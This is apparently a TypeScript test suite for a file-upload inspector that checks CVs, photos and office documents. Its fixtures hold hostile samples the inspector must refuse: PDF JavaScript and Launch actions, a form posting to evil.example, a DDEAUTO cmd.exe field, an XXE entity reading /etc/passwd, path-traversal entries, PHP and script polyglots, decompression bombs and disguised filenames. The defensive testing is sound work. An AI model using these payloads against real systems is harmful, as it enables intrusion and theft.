import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from 'pdf-lib'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { makeArchive } from '@/tests/support/make-archive'
import { makeDocx, makeOdt, makePdf, makePhoto } from '@/tests/support/make-files'
import { toFileObjectionText } from './file-objection'
import { inspectFile } from './inspect-file'

const every = ['pdf', 'png', 'jpg', 'docx', 'xlsx', 'odt', 'ods'] as const

async function judge(name: string, content: Buffer, keepsOriginal = true): Promise<string | null> {
  const { objection } = await inspectFile({ name, content, kinds: every, keepsOriginal, clamd: undefined })
  return objection
}

describe('a sound file', () => {
  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['cv.pdf', () => makePdf()],
    ['packed.pdf', () => makePdf(undefined, { packed: true })],
    ['photo.jpg', () => makePhoto()],
    ['PHOTO.JPEG', () => makePhoto()],
    ['scan.png', () => makePhoto('png')],
    ['letter.docx', () => makeDocx()],
    ['letter.odt', () => makeOdt()],
  ])('%s is taken as it is', async (name, make) => {
    const content = await make()
    const file = await inspectFile({ name, content, kinds: every, keepsOriginal: true, clamd: undefined })
    expect(file).toMatchObject({ objection: null, content })
  })

  it('that opens at a page and has a link is taken', async () => {
    const content = await makePdf(({ document, context }) => {
      const page = document.getPage(0)
      document.catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, 'Fit']))
      const action = context.obj({ S: 'URI', URI: PDFString.of('mailto:ana@bcs.example') })
      const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action })
      page.node.set(PDFName.of('Annots'), context.obj([context.register(link)]))
    })
    expect(await judge('cv.pdf', content)).toBeNull()
  })

  it('speaks of JavaScript as any CV may', async () => {
    const content = await makePdf(({ document }) => {
      document.setTitle('HTML/JavaScript/CSS')
      document.setKeywords(['/JavaScript /JS /Launch'])
    })
    expect(await judge('cv.pdf', content)).toBeNull()
  })

  it('gets a name without ways and signs', async () => {
    const content = await makePdf()
    const names = await Promise.all(
      ['../../etc/cv.pdf', 'C:\\Users\\Ana\\CV (final).pdf', 'a\u202Efdp.exe.pdf', '=cmd|calc.pdf', '.pdf'].map(
        (name) => inspectFile({ name, content, kinds: ['pdf'], keepsOriginal: true, clamd: undefined }),
      ),
    )
    expect(names.map((file) => 'name' in file && file.name)).toEqual([
      'cv.pdf',
      'CV (final).pdf',
      'a_fdp.exe.pdf',
      '_cmd_calc.pdf',
      'file.pdf',
    ])
  })
})

describe('a picture of an application', () => {
  it.each(['jpeg', 'png'] as const)('as %s loses what is written beside it, and stands upright', async (format) => {
    const content = await makePhoto(format)
    expect(content.toString('latin1')).toContain('Telephone')
    const name = `photo.${format}`
    const file = await inspectFile({ name, content, kinds: every, keepsOriginal: false, clamd: undefined })
    if (file.objection) throw new Error(file.objection)
    const { exif, orientation, width, height } = await sharp(file.content).metadata()
    expect({ exif, orientation, width, height }).toEqual({
      exif: undefined,
      orientation: undefined,
      width: 20,
      height: 40,
    })
    expect(file.content.toString('latin1')).not.toMatch(/Telephone|Ana|GPS/)
  })
})

const pdfWith = (entry: (context: Parameters<NonNullable<Parameters<typeof makePdf>[0]>>[0]) => void, packed = false) =>
  makePdf(entry, { packed })
const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }

describe('a PDF', () => {
  for (const packed of [false, true]) {
    it.each<[string, (pdf: Parameters<NonNullable<Parameters<typeof makePdf>[0]>>[0]) => void]>([
      [
        'a script when it is opened',
        ({ document, context }) =>
          document.catalog.set(PDFName.of('OpenAction'), context.register(context.obj(script))),
      ],
      [
        'a script of the document',
        ({ document, context }) =>
          document.catalog.set(
            PDFName.of('Names'),
            context.obj({ JavaScript: { Names: [PDFString.of('a'), context.register(context.obj(script))] } }),
          ),
      ],
      [
        'a script with escapes in its name',
        ({ context }) => {
          context.register(context.obj({ S: PDFName.of('J#61vaScript') }))
        },
      ],
      [
        'an action of a page',
        ({ document, context }) => document.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: { S: 'Named' } })),
      ],
      [
        'a program to start',
        ({ context }) => {
          context.register(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }))
        },
      ],
      [
        'a form to send elsewhere',
        ({ context }) => {
          context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of('http://evil.example') }))
        },
      ],
      [
        'a file inside',
        ({ context }) => {
          context.register(context.stream('MZ', { Type: 'EmbeddedFile' }))
        },
      ],
      [
        'an attachment',
        ({ context }) => {
          context.register(context.obj({ Type: 'Filespec', EF: { F: context.nextRef() } }))
        },
      ],
      [
        'a film',
        ({ context }) => {
          context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia' }))
        },
      ],
      [
        'a form with a program of its own',
        ({ document, context }) => document.catalog.set(PDFName.of('AcroForm'), context.obj({ XFA: [] })),
      ],
    ])(`with %s is refused${packed ? ', packed too' : ''}`, async (_what, change) => {
      expect(await judge('cv.pdf', await pdfWith(change, packed))).toBe('active')
    })
  }

  it('whose script an update has hidden is refused', async () => {
    const old = '9000 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj\n9000 0 obj\n<< >>\nendobj\n'
    const pdf = (await makePdf()).toString('latin1').replace(/xref\n/, `${old}xref\n`)
    expect(await judge('cv.pdf', Buffer.from(pdf, 'latin1'))).toBe('active')
  })

  it('with a stream that becomes huge is refused in time', async () => {
    const bomb = deflateSync(Buffer.alloc(400_000_000))
    const head = `9000 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
    const pdf = (await makePdf()).toString('latin1').split('xref\n')
    const content = Buffer.concat([
      Buffer.from(`${pdf[0]}${head}`, 'latin1'),
      bomb,
      Buffer.from(`\nendstream\nendobj\nxref\n${pdf[1]}`, 'latin1'),
    ])
    expect(await judge('cv.pdf', content)).toBe('damaged')
  })

  it('with objects that hide in another stream is refused', async () => {
    const content = await makePdf(({ context }) => {
      context.register(context.stream('7 0 obj << /Type /ObjStm /N 1 /First 4 >> stream\nx\nendstream endobj', {}))
    })
    expect(await judge('cv.pdf', content)).toBe('damaged')
  })

  it('with a password is refused', async () => {
    const pdf = (await makePdf()).toString('latin1')
    const locked = pdf.replace(/trailer\s*<</, 'trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 >>')
    expect(locked).not.toBe(pdf)
    expect(await judge('cv.pdf', Buffer.from(locked, 'latin1'))).toBe('locked')
  })

  it('that ends too soon, or is no PDF after its first line, is refused', async () => {
    const pdf = await makePdf()
    expect(await judge('cv.pdf', pdf.subarray(0, 60))).toBe('damaged')
    expect(await judge('cv.pdf', Buffer.from('%PDF-1.7\nnothing else\n'))).toBe('damaged')
  })
})

describe('an office document', () => {
  const external =
    '<Relationships><Relationship Id="a" Type="http://x/attachedT" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  it.each<[string, { name: string; content: string }[]]>([
    ['macros', [{ name: 'word/vbaProject.bin', content: 'x' }]],
    ['a control', [{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]],
    ['an object of another program', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]],
    ['a template from elsewhere', [{ name: 'word/_rels/settings.xml.rels', content: external }]],
    ['a command', [{ name: 'word/document.xml', content: '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' }]],
    ['an entity', [{ name: 'word/footer.xml', content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>' }]],
    ['a page', [{ name: 'word/media/a.html', content: '<script>' }]],
    ['a program', [{ name: 'word/media/a.exe', content: 'MZ' }]],
  ])('with %s is refused', async (_what, parts) => {
    expect(await judge('letter.docx', makeDocx(parts))).toBe('active')
  })

  it('with a link is taken', async () => {
    const link = external.replace('http://x/attachedT', 'http://x/hyperlink')
    expect(await judge('letter.docx', makeDocx([{ name: 'word/_rels/document.xml.rels', content: link }]))).toBeNull()
  })

  it.each([
    ['macros', [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }]],
    ['a script', [{ name: 'Scripts/python/a.py', content: 'x' }]],
    ['an event', [{ name: 'styles.xml', content: '<script:event-listener a="b"/>' }]],
    ['an object', [{ name: 'Object 1/content.xml', content: '<a/>' }]],
  ])('of the open format with %s is refused', async (_what, parts) => {
    expect(await judge('letter.odt', makeOdt(parts))).toBe('active')
  })

  it.each<[string, Buffer]>([
    [
      'whose entries are named otherwise than the table says',
      makeArchive([{ name: 'a.xml', localName: 'b.xml', content: '' }]),
    ],
    ['with a name that leads out', makeDocx([{ name: '../../evil.xml', content: '' }])],
    ['with the same name twice', makeDocx([{ name: 'WORD/document.xml', content: '' }])],
    [
      'that unpacks to more than it says',
      makeArchive([{ name: '[Content_Types].xml', content: 'x'.repeat(9000), claimedSize: 9 }]),
    ],
    ['with something before it', Buffer.concat([Buffer.from('x'), makeDocx()])],
    ['with something after it', Buffer.concat([makeDocx(), Buffer.from('x')])],
  ])('%s is refused', async (_what, content) => {
    expect(['damaged', 'disguised']).toContain(await judge('letter.docx', content))
  })

  it('that unpacks to a hundred times its size is refused in time', async () => {
    const huge = Array.from({ length: 4 }, (_, index) => ({
      name: `word/${index}.xml`,
      content: Buffer.alloc(40_000_000),
    }))
    expect(await judge('letter.docx', makeDocx(huge))).toBe('damaged')
  })
})

describe('a file that is not what it says', () => {
  it.each<[string, string, () => Promise<Buffer> | Buffer, string]>([
    ['nothing', 'cv.pdf', () => Buffer.alloc(0), 'empty'],
    ['too much', 'cv.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_242_880)]), 'tooLarge'],
    ['a picture as a PDF', 'cv.pdf', () => makePhoto(), 'disguised'],
    ['a PDF as a picture', 'photo.png', () => makePdf(), 'disguised'],
    ['an archive as a document', 'letter.docx', () => makeArchive([{ name: 'a.txt', content: 'a' }]), 'disguised'],
    ['a program as a PDF', 'cv.pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), 'disguised'],
    ['a page as a picture', 'photo.png', () => Buffer.from('<html><script>alert(1)</script>'), 'disguised'],
    [
      'an installer as a document',
      'letter.docx',
      () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(2000, '0'), 'hex'),
      'disguised',
    ],
    ['a drawing that runs scripts', 'logo.svg', () => Buffer.from('<svg onload="alert(1)"/>'), 'notAccepted'],
    ['a page', 'cv.html', () => Buffer.from('<p>'), 'notAccepted'],
    ['an archive', 'cv.zip', () => makeArchive([{ name: 'a', content: 'a' }]), 'notAccepted'],
    ['a document with macros', 'cv.docm', () => makeDocx(), 'notAccepted'],
    ['an old document', 'cv.doc', () => makeDocx(), 'notAccepted'],
    ['a name without ending', 'cv', () => makePdf(), 'notAccepted'],
    ['a second ending', 'cv.pdf.exe', () => makePdf(), 'notAccepted'],
    ['a zero in the name', 'cv.exe\u0000.png', () => makePdf(), 'disguised'],
  ])('%s is refused', async (_what, name, make, objection) => {
    expect(await judge(name, await make())).toBe(objection)
  })

  it.each<[string, string, () => Promise<Buffer>]>([
    [
      'a picture that is also an archive',
      'photo.jpg',
      async () => Buffer.concat([await makePhoto(), makeArchive([{ name: 'a', content: 'a' }])]),
    ],
    [
      'a picture with a page behind it',
      'photo.png',
      async () => Buffer.concat([await makePhoto('png'), Buffer.from('<script>alert(1)</script>')]),
    ],
    [
      'a picture with a program in it',
      'photo.jpg',
      async () => Buffer.concat([await makePhoto(), Buffer.from('<?php system(1);')]),
    ],
    [
      'a PDF that is also an archive',
      'cv.pdf',
      async () => Buffer.concat([await makePdf(), makeArchive([{ name: 'a', content: 'a' }])]),
    ],
    ['a PDF that begins as a page', 'cv.pdf', async () => Buffer.concat([Buffer.from('<html>'), await makePdf()])],
  ])('%s is refused', async (_what, name, make) => {
    expect(await judge(name, await make())).toBe('disguised')
  })

  it('a kind that the field does not take is refused', async () => {
    const file = { name: 'letter.docx', content: makeDocx(), keepsOriginal: false, clamd: undefined }
    expect(await inspectFile({ ...file, kinds: ['pdf', 'png', 'jpg'] })).toEqual({ objection: 'notAccepted' })
  })

  it('a picture of more points than any camera makes is refused', async () => {
    const content = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer()
    expect(await judge('photo.png', content)).toBe('tooManyPixels')
  })

  it('a torn picture is refused', async () => {
    const photo = await sharp({ create: { width: 400, height: 400, channels: 3, background: '#123' } })
      .jpeg()
      .toBuffer()
    expect(await judge('photo.jpg', photo.subarray(0, photo.length / 2))).toBe('damaged')
  })

  it('is told so in both languages', () => {
    expect(toFileObjectionText('active', 'pt')).toContain('macros')
    expect(toFileObjectionText('active', 'en')).toContain('macros')
  })
})
